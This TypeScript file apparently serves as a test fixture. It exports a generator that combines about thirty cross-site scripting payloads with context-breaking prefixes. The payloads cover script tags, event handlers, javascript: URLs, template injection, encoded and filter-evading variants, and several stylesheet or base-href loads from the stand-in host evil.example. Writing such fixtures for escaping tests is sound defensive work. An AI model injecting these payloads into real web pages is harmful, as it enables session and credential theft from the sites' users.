/** Each text runs `hit()`, or loads something from another site, when a page renders it without escaping. */
const PAYLOADS = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '</script><script>hit()</script>',
  '</title><script>hit()</script>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<a href=javascript:hit()>press</a>',
  'javascript:hit()',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  '<body onload=hit()>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<object data=javascript:hit()>',
  '<form action=javascript:hit()><button autofocus>x',
  '<video><source onerror=hit()></video>',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '"onmouseover="hit()" autofocus onfocus="hit()',
  '<math><mtext><script>hit()</script></mtext></math>',
  '<template><script>hit()</script></template>',
  '\u2028hit()\u2028',
]

/** Each prefix closes or opens an element, attribute or comment around the script. */
const PREFIXES = ['', '">', "'>", '-->', '</textarea>', '*/', ']]>', '<!--']

/** The first `count` texts. The first ones have no prefix. */
export function scriptPayloads(count: number): string[] {
  return PREFIXES.flatMap((prefix) => PAYLOADS.map((payload) => prefix + payload)).slice(0, count)
}
